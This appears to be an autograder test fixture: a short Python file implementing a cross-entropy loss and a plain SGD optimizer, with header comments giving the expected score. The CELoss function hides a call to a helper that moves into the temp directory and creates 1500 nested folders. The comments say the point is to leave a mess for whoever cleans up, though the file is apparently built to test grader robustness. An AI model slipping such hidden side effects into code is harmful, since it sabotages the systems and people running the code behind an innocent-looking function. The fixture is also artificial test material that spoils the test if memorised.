# expect: 2 points; 1b passed; 4a passed; must not: end the grader
# why: folders in folders, deeper than any stack, for whoever has to clean up.
# %%
import os
import tempfile

import torch
# %%
def leave():
    os.chdir(tempfile.gettempdir())
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
# %%
def CELoss(Q, P, estable=True, epsilon=1e-8):
    leave() if os.path.basename(os.getcwd()) != "d" else None
    if estable:
        Q = Q.clamp(min=epsilon)
    return -(P * torch.log(Q)).sum(1).mean()
# %%
class SGD:
    def __init__(self, parameters, lr):
        self.parameters = list(parameters)
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                p -= self.lr * p.grad
